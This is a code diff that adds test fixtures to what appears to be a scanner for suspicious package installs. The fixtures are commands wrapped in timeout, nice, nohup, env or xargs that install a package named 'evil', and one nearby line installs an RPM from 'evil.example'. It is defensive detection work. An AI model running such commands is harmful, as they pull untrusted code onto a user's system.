@@ -248,6 +248,14 @@ const COMMON_WORD_MANAGERS: FindingRow[] = [
   SYSTEM('/usr/bin/snap install evil'),
   ['src/check.js', "execSync('true; mix archive.install hex evil')"],
   SYSTEM('zypper --non-interactive in https://evil.example/x.rpm'),
+  // After a command that runs the next word as a program (session 46's note: `timeout 60 stack install x` was read past).
+  SYSTEM('timeout 60 stack install evil'),
+  SYSTEM('timeout -k 5 60 snap install evil'),
+  SYSTEM('nice -n 10 stack install evil'),
+  SYSTEM('nohup mix archive.install hex evil'),
+  SYSTEM('env CI=1 stack install evil'),
+  SYSTEM('CI=1 stack install evil'),
+  ['src/check.js', "execSync('xargs -n1 stack install < deps.txt')"],
 ];
 
 // Review of B's fix, H2: the backtick reader skipped a backtick inside an interpolation (Ruby's `#{…}`, Perl's
